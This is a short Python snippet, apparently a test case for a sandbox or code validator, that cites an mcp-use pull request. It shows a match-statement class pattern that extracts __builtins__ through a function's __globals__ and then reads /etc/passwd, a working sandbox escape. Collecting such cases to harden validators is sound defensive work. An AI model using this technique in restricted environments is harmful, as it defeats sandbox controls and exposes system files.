# Source: https://github.com/mcp-use/mcp-use/pull/1735 (MatchClass kwd_attrs)
# Family: match-statement
# What: class pattern with __globals__ keyword attribute on a function
def f():
    pass

match f:
    case object(__globals__={"__builtins__": bi}):
        print(bi.open("/etc/passwd").read())
